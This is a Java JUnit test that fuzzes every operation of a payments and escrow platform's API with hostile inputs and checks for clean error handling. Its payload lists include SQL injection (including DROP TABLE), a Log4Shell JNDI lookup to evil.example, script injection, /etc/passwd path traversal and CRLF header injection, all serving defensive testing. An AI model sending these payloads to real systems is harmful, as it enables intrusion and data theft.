package com.kobatela.reliability;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.kobatela.local.Service;
import com.kobatela.local.e2e.E2eHttp;

/**
 * Family {@code hostile-input}: for every operation of the partner-facing OpenAPI document (so a new endpoint is covered
 * without touching this test), requests generated from its schema and mutated into hostile shapes: malformed JSON,
 * wrong types, missing and unknown fields, huge, negative, 3-decimal and non-numeric amounts, unknown currencies,
 * overlong strings, control characters and unicode, SQL, template and script injection, hostile path parameters and
 * idempotency keys, an oversized body. Sent through the gateway with the admin key (so scope checks pass and the input
 * reaches the services). Required: no 5xx; every 4xx in the common error body with a code; and a 4xx writes nothing
 * (the business tables of every service keep their row counts; rejection audits and alerts are allowed by the spec).
 * Cases come from a seeded generator: the seed is printed so a failure can be replayed.
 */
@Order(30)
class HostileInputTest {

    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

    /** The id put in path parameters: no entity of the run has it. */
    private static final String NO_SUCH_ID = "987654321";

    /** Tables that hold money or business state, per service: a refused request must leave their row counts unchanged. */
    private static final Map<Service, List<String>> BUSINESS_TABLES = Map.of(
            Service.GATEWAY, List.of("users", "api_keys"),
            Service.ESCROW, List.of("escrow_agreements", "escrow_deposits", "milestones", "gov_projects"),
            Service.SPEND, List.of("usage_mandates", "purchases", "transactions", "allowed_payees", "spend_categories", "merchants"),
            Service.PROOF, List.of("proofs"),
            Service.PAYMENT, List.of("payments"));

    private static final List<String> HOSTILE_STRINGS = List.of("' OR '1'='1' --", "\"; DROP TABLE escrow_agreements; --",
            "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "\u0000nul", "\u202Eevil\u202C", "💸💸💸", "ｕｓｄ",
            "../../../../etc/passwd", "%s%s%s%n", "\r\nX-Injected: 1", "null", "");

    private static final List<Object> HOSTILE_AMOUNTS = List.of("-1.00", "0", "0.00", "12.345", "1e309", "-0.001",
            "999999999999999999999999.99", "NaN", "Infinity", "１２.００", "1,00", "0x10", 1e20, -5, "", true);

    private static final List<String> HOSTILE_CURRENCIES = List.of("XXX", "usd", "US", "EURO", "€", "U$D", "123");

    @Test
    void noHostileRequestIsAnErrorOfOursOrLeavesATrace() throws Exception {
        long seed = Long.getLong("kobatela.reliability.seed", System.nanoTime());
        System.out.println("[reliability] hostile-input seed=" + seed);
        Random random = new Random(seed);
        Family family = Family.of("hostile-input");
        // a key of its own: the family's hundreds of calls must not spend the shared admin key's rate budget
        E2eHttp admin = RelStack.gateway().withApiKey(Sensitive.add(RelStack.admin().postJson("/apikeys", Map.of("name", "hostile-input",
                "scope", "admin")).json().path("key").asText()));
        JsonNode doc = RelStack.gateway().get("/q/openapi?format=json").json();
        assertTrue(doc.path("paths").size() >= 40, "the partner OpenAPI document lists the public operations");
        Map<Service, JsonNode> serviceDocs = new LinkedHashMap<>();
        for (Service s : List.of(Service.ESCROW, Service.SPEND, Service.PROOF, Service.PAYMENT)) {
            serviceDocs.put(s, RelStack.direct(s).get("/q/openapi?format=json").json());
        }
        int operations = 0;
        for (Iterator<Map.Entry<String, JsonNode>> paths = doc.path("paths").fields(); paths.hasNext();) {
            Map.Entry<String, JsonNode> p = paths.next();
            if (p.getKey().startsWith("/psp/") || p.getKey().equals("/health")) {
                continue; // signature-checked and public: covered by the webhook family
            }
            for (Iterator<Map.Entry<String, JsonNode>> ops = p.getValue().fields(); ops.hasNext();) {
                Map.Entry<String, JsonNode> op = ops.next();
                String method = op.getKey().toUpperCase();
                if (!List.of("GET", "POST", "DELETE", "PUT", "PATCH").contains(method)) {
                    continue;
                }
                operations++;
                JsonNode schema = requestSchema(p.getKey(), op.getKey(), doc, serviceDocs);
                Service owner = owner(p.getKey());
                for (Case c : cases(p.getKey(), method, schema, random)) {
                    long before = counts(owner);
                    E2eHttp.Result r = admin.send(method, c.path(), c.body(), c.headers());
                    String problem = judge(r);
                    if (problem == null && r.status() >= 400 && before != counts(owner)) {
                        problem = "a refused request changed business rows";
                    }
                    family.check(problem == null, method + " " + c.path() + " [" + c.name() + "]: " + problem + " -> " + r.status() + " "
                            + abbreviate(r.body()));
                }
            }
        }
        System.out.println("[reliability] hostile-input operations=" + operations);
        assertTrue(operations >= 40, "operations covered: " + operations);
        assertEquals(0, family.failures(), family.failureReport());
    }

    /** A generated request. */
    private record Case(String name, String path, Object body, String[] headers) {
    }

    private static String judge(E2eHttp.Result r) {
        if (r.status() >= 500 && !Answers.isDocumented(r.status(), r.json().path("error").path("code").asText(""))) {
            return "5xx";
        }
        if (r.status() >= 400 && r.json().path("error").path("code").asText("").isEmpty()) {
            return "4xx without the common error body";
        }
        return null;
    }

    /** The request body schema of an operation: the owning service's (typed) if it has one, else the gateway's. */
    private static JsonNode requestSchema(String path, String method, JsonNode gatewayDoc, Map<Service, JsonNode> serviceDocs) {
        for (JsonNode d : serviceDocs.values()) {
            JsonNode s = d.path("paths").path(path).path(method).path("requestBody").path("content").path("application/json").path("schema");
            if (!s.isMissingNode()) {
                return resolve(s, d);
            }
        }
        JsonNode s = gatewayDoc.path("paths").path(path).path(method).path("requestBody").path("content").path("application/json").path("schema");
        return s.isMissingNode() ? null : resolve(s, gatewayDoc);
    }

    private static JsonNode resolve(JsonNode schema, JsonNode doc) {
        if (schema.has("$ref")) {
            String name = schema.path("$ref").asText().replace("#/components/schemas/", "");
            return resolve(doc.path("components").path("schemas").path(name), doc);
        }
        if (schema.has("allOf") && schema.path("allOf").size() == 1) {
            return resolve(schema.path("allOf").get(0), doc);
        }
        return schema;
    }

    /** The hostile cases of one operation. */
    private static List<Case> cases(String template, String method, JsonNode schema, Random random) {
        List<Case> out = new ArrayList<>();
        // path parameters name no existing entity: hostile requests must not revoke, rotate or change real ones
        String path = template.replaceAll("\\{[^}]+}", NO_SUCH_ID);
        String[] idem = {"Idempotency-Key", "hostile-" + random.nextLong()};
        for (String hostileId : List.of("abc", "-1", "99999999999999999999", "1%00", "%27%20or%201%3D1", "1.5", "%F0%9F%92%B8")) {
            if (template.contains("{")) {
                out.add(new Case("path:" + hostileId, template.replaceFirst("\\{[^}]+}", hostileId).replaceAll("\\{[^}]+}", NO_SUCH_ID),
                        "POST".equals(method) ? Map.of() : null, idem));
            }
        }
        if (!"POST".equals(method)) {
            out.add(new Case("query-injection", path + (path.contains("?") ? "&" : "?") + "limit=1%27%3B--&type=%3Cscript%3E", null, idem));
            return out;
        }
        ObjectNode valid = schema != null && schema.path("properties").size() > 0 ? example(schema) : JSON.objectNode();
        out.add(new Case("malformed-json", path, "{\"a\": ", idem));
        out.add(new Case("not-an-object", path, "[1,2,3]", idem));
        out.add(new Case("bare-string", path, "\"hello\"", idem));
        out.add(new Case("garbage-bytes", path, randomText(random, 64), idem));
        out.add(new Case("unknown-field", path, valid.deepCopy().put("zz_unknown_" + random.nextInt(1000), 1), idem));
        out.add(new Case("deep-nesting", path, "[".repeat(5000) + "]".repeat(5000), idem));
        out.add(new Case("oversized", path, "{\"label\":\"" + "x".repeat(1_200_000) + "\"}", idem));
        out.add(new Case("idempotency-key-too-long", path, valid, new String[] {"Idempotency-Key", "k".repeat(65)}));
        out.add(new Case("idempotency-key-odd", path, valid, new String[] {"Idempotency-Key", "k<>'\";--%00" + random.nextInt()}));
        out.add(new Case("idempotency-key-blank", path, valid, new String[] {"Idempotency-Key", "   "}));
        if (schema == null) {
            return out;
        }
        for (Iterator<Map.Entry<String, JsonNode>> it = schema.path("properties").fields(); it.hasNext();) {
            Map.Entry<String, JsonNode> prop = it.next();
            String name = prop.getKey();
            String type = prop.getValue().path("type").asText("string");
            ObjectNode missing = valid.deepCopy();
            missing.remove(name);
            out.add(new Case("missing:" + name, path, missing, idem));
            out.add(new Case("wrong-type:" + name, path, valid.deepCopy().set(name, wrongType(type)), idem));
            out.add(new Case("null:" + name, path, valid.deepCopy().putNull(name), idem));
            if (isAmount(name)) {
                for (Object a : HOSTILE_AMOUNTS) {
                    out.add(new Case("amount:" + name + "=" + a, path, valid.deepCopy().set(name, JSON.pojoNode(a)), idem));
                }
            } else if (name.contains("currency")) {
                for (String c : HOSTILE_CURRENCIES) {
                    out.add(new Case("currency:" + c, path, valid.deepCopy().put(name, c), idem));
                }
            } else if ("string".equals(type)) {
                out.add(new Case("overlong:" + name, path, valid.deepCopy().put(name, "y".repeat(10_000)), idem));
                String hostile = HOSTILE_STRINGS.get(random.nextInt(HOSTILE_STRINGS.size()));
                out.add(new Case("hostile-string:" + name, path, valid.deepCopy().put(name, hostile), idem));
            } else if ("integer".equals(type) || "number".equals(type)) {
                out.add(new Case("huge:" + name, path, valid.deepCopy().put(name, new java.math.BigInteger("9".repeat(40))), idem));
                out.add(new Case("negative:" + name, path, valid.deepCopy().put(name, -1), idem));
            }
        }
        return out;
    }

    /** A request built from the schema: required and optional properties with plausible values of their type. */
    private static ObjectNode example(JsonNode schema) {
        ObjectNode o = JSON.objectNode();
        for (Iterator<Map.Entry<String, JsonNode>> it = schema.path("properties").fields(); it.hasNext();) {
            Map.Entry<String, JsonNode> p = it.next();
            String name = p.getKey();
            String type = p.getValue().path("type").asText("string");
            if (isAmount(name)) {
                o.put(name, "1.00");
            } else if (name.contains("currency")) {
                o.put(name, "USD");
            } else if (name.endsWith("_at")) {
                o.put(name, "2031-01-01T00:00:00Z");
            } else {
                switch (type) {
                    case "integer" -> o.put(name, 1);
                    case "number" -> o.put(name, 1.0);
                    case "boolean" -> o.put(name, true);
                    case "object" -> o.set(name, JSON.objectNode());
                    case "array" -> o.set(name, JSON.arrayNode());
                    default -> o.put(name, p.getValue().has("enum") ? p.getValue().path("enum").get(0).asText() : "hostile-test");
                }
            }
        }
        return o;
    }

    private static JsonNode wrongType(String type) {
        return switch (type) {
            case "string" -> JSON.objectNode().put("nested", true);
            case "integer", "number" -> JSON.textNode("not-a-number");
            case "boolean" -> JSON.textNode("maybe");
            case "object" -> JSON.arrayNode().add(1);
            case "array" -> JSON.textNode("not-a-list");
            default -> JSON.arrayNode();
        };
    }

    private static boolean isAmount(String name) {
        return name.contains("amount") || name.endsWith("_limit") || name.equals("total");
    }

    private static String randomText(Random random, int n) {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < n; i++) {
            sb.append((char) (random.nextInt(0x2FF) + 1));
        }
        return sb.toString();
    }

    /** The service that owns a public path (spec {@code README.md#proposed-split-across-services}). */
    static Service owner(String path) {
        if (path.startsWith("/users") && path.contains("/psp/") || path.startsWith("/payments") || path.startsWith("/psp")
                || path.matches("/escrows/[^/]+/(balance|payments|funding-session)")) {
            return Service.PAYMENT;
        }
        if (path.startsWith("/users") || path.startsWith("/apikeys") || path.startsWith("/audit-logs") || path.equals("/health")) {
            return Service.GATEWAY;
        }
        if (path.startsWith("/escrows") || path.startsWith("/kct_public")) {
            return Service.ESCROW;
        }
        if (path.startsWith("/proofs")) {
            return Service.PROOF;
        }
        return Service.SPEND;
    }

    /** A fingerprint of the row counts of a service's business tables. */
    private static long counts(Service service) throws Exception {
        try (Connection c = RelStack.jdbc(service); Statement st = c.createStatement()) {
            long n = 0;
            for (String t : BUSINESS_TABLES.get(service)) {
                try (ResultSet rs = st.executeQuery("select count(*) from " + t)) {
                    rs.next();
                    n = n * 1_000_003 + rs.getLong(1);
                }
            }
            return n;
        }
    }

    private static String abbreviate(String s) {
        return s.length() > 200 ? s.substring(0, 200) + "..." : s;
    }
}
